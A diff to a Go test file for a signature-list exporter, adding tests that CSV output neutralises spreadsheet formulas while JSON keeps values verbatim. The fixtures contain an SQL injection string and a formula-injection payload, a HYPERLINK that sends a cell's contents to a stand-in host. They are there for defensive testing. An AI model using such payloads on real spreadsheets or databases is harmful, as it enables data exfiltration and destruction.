@@ -198,10 +198,10 @@ func TestCSVAndJSON(t *testing.T) {
 	rows := manyRows(2)
 	rows[0].Note = `Robert'); DROP TABLE signatures;-- "q"`
 	var pub, priv bytes.Buffer
-	if err := WriteCSV(&pub, rows, false); err != nil {
+	if err := WriteCSV(&pub, rows, false, false); err != nil {
 		t.Fatal(err)
 	}
-	WriteCSV(&priv, rows, true)
+	WriteCSV(&priv, rows, true, false)
 	if strings.Contains(pub.String(), "@example.org") || strings.Contains(pub.String(), "DROP") {
 		t.Errorf("public CSV carries emails or notes:\n%s", pub.String())
 	}
@@ -219,6 +219,44 @@ func TestCSVAndJSON(t *testing.T) {
 	WriteJSON(&js, nil, true)
 	if strings.TrimSpace(js.String()) != "[]" {
 		t.Errorf("empty JSON = %q, want []", js.String())
+	}
+}
+
+// TestCSVIsSpreadsheetSafe: with or without --private, a value a
+// spreadsheet would evaluate gets a quote in front; raw keeps it (issue 8).
+func TestCSVIsSpreadsheetSafe(t *testing.T) {
+	rows := manyRows(1)
+	rows[0].Name, rows[0].Note, rows[0].Email = "-Ana", `=HYPERLINK("http://x/?"&A2,"Click")`, "@ana@example.org"
+	for _, tt := range []struct {
+		private, raw bool
+		want         []string
+	}{
+		{false, false, []string{"1", "'-Ana"}},
+		{true, false, []string{"1", "'-Ana", "'@ana@example.org", `'=HYPERLINK("http://x/?"&A2,"Click")`}},
+		{true, true, []string{"1", "-Ana", "@ana@example.org", `=HYPERLINK("http://x/?"&A2,"Click")`}},
+	} {
+		var b bytes.Buffer
+		if err := WriteCSV(&b, rows, tt.private, tt.raw); err != nil {
+			t.Fatal(err)
+		}
+		recs, err := csv.NewReader(&b).ReadAll()
+		if err != nil || len(recs) != 2 {
+			t.Fatalf("CSV %q: %v", b.String(), err)
+		}
+		got := []string{recs[1][0], recs[1][1]}
+		if tt.private {
+			got = append(got, recs[1][4], recs[1][5])
+		}
+		if strings.Join(got, "|") != strings.Join(tt.want, "|") {
+			t.Errorf("private=%v raw=%v: %q, want %q", tt.private, tt.raw, got, tt.want)
+		}
+	}
+	// JSON is data, not a spreadsheet: verbatim.
+	var js bytes.Buffer
+	WriteJSON(&js, rows, true)
+	var back []Row
+	if err := json.Unmarshal(js.Bytes(), &back); err != nil || back[0].Note != rows[0].Note {
+		t.Errorf("JSON = %s, %v; want the note verbatim", js.String(), err)
 	}
 }
 
